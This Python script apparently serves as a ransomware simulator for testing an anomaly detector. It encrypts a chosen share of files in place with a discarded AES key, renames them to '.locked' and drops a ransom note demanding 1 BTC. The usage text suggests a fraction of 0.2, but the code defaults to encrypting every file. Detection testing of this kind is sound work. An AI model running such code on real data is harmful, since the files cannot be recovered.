#!/usr/bin/env python3
"""Simulate ransomware on a COPY of a tree: encrypt files in place with AES-GCM, rename them
to a new extension, and drop a ransom note, as the anomaly alarm's true-positive test.

    simulate_ransomware.py TREE [--fraction 0.2] [--ext .locked] [--no-rename] [--note NAME]
                                [--seed 1]

Never point it at data you care about: the key is random and thrown away. `--fraction`
picks that share of the regular files (deterministically, by a seeded shuffle of their
sorted paths); each is overwritten with nonce || AESGCM(content) and renamed to
NAME + EXT (unless --no-rename); the note (default README_TO_DECRYPT.txt) goes in TREE's
top folder ("" for none). Prints one JSON line: files and bytes encrypted.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import sys

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

NOTE_TEXT = b"Your files are encrypted. Send 1 BTC to recover them.\n"


def files_of(tree: str) -> list[str]:
    out = []
    for folder, _dirs, names in os.walk(tree):
        for name in names:
            p = os.path.join(folder, name)
            if os.path.isfile(p) and not os.path.islink(p):
                out.append(p)
    out.sort(key=os.fsencode)
    return out


def encrypt_in_place(path: str, aead: AESGCM) -> int:
    with open(path, "rb") as f:
        data = f.read()
    nonce = os.urandom(12)
    with open(path, "r+b") as f:
        f.write(nonce + aead.encrypt(nonce, data, None))
        f.truncate()
    return len(data)


def main(argv: list[str]) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("tree")
    ap.add_argument("--fraction", type=float, default=1.0)
    ap.add_argument("--ext", default=".locked")
    ap.add_argument("--no-rename", action="store_true")
    ap.add_argument("--note", default="README_TO_DECRYPT.txt")
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args(argv)
    files = files_of(a.tree)
    random.Random(a.seed).shuffle(files)
    chosen = files[: round(len(files) * a.fraction)]
    aead = AESGCM(AESGCM.generate_key(bit_length=256))
    done = 0
    for p in chosen:
        done += encrypt_in_place(p, aead)
        if not a.no_rename:
            os.rename(p, p + a.ext)
    if a.note:
        with open(os.path.join(a.tree, a.note), "wb") as f:
            f.write(NOTE_TEXT)
    print(json.dumps({"files": len(files), "encrypted": len(chosen), "bytes": done, "renamed": not a.no_rename}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
